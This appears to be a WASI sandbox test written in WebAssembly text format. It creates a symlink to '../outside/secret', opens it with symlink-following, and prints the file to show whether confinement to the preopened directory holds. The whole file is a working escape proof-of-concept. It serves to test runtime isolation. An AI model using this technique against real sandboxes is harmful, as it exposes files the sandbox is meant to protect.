;; Tries to escape its preopened directory (fd 3) through a symlink it makes
;; itself: links "esc" to "../outside/secret", then opens "esc" (following
;; symlinks) and copies the file to stdout.
;; Exit status: 0 the escape worked (the file was printed), 1 path_symlink
;; failed, 2 path_open failed, 3 fd_read failed.
;; Build: wat2wasm fs_symlink_escape.wat -o fs_symlink_escape.wasm
(module
  ;; path_symlink(old_path, old_path_len, fd, new_path, new_path_len) -> errno
  (import "wasi_snapshot_preview1" "path_symlink"
    (func $symlink (param i32 i32 i32 i32 i32) (result i32)))
  ;; path_open(fd, dirflags, path, path_len, oflags, rights_base,
  ;;           rights_inheriting, fdflags, &fd) -> errno
  (import "wasi_snapshot_preview1" "path_open"
    (func $open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read"
    (func $read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write"
    (func $write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "proc_exit" (func $exit (param i32)))
  (memory (export "memory") 1)
  (data (i32.const 64) "../outside/secret") ;; 17 bytes
  (data (i32.const 96) "esc")               ;; 3 bytes
  (func (export "_start")
    (if (call $symlink (i32.const 64) (i32.const 17) (i32.const 3) (i32.const 96) (i32.const 3))
      (then (call $exit (i32.const 1))))
    ;; dirflags 1: follow symlinks; the new fd lands at [0]
    (if (call $open (i32.const 3) (i32.const 1) (i32.const 96) (i32.const 3) (i32.const 0)
                    (i64.const -1) (i64.const -1) (i32.const 0) (i32.const 0))
      (then (call $exit (i32.const 2))))
    ;; iovec at 8: {buf 1024, len 4096}; bytes read at 16
    (i32.store (i32.const 8) (i32.const 1024))
    (i32.store (i32.const 12) (i32.const 4096))
    (if (call $read (i32.load (i32.const 0)) (i32.const 8) (i32.const 1) (i32.const 16))
      (then (call $exit (i32.const 3))))
    ;; iovec at 24: {buf 1024, len bytes read}
    (i32.store (i32.const 24) (i32.const 1024))
    (i32.store (i32.const 28) (i32.load (i32.const 16)))
    (drop (call $write (i32.const 1) (i32.const 24) (i32.const 1) (i32.const 32)))))
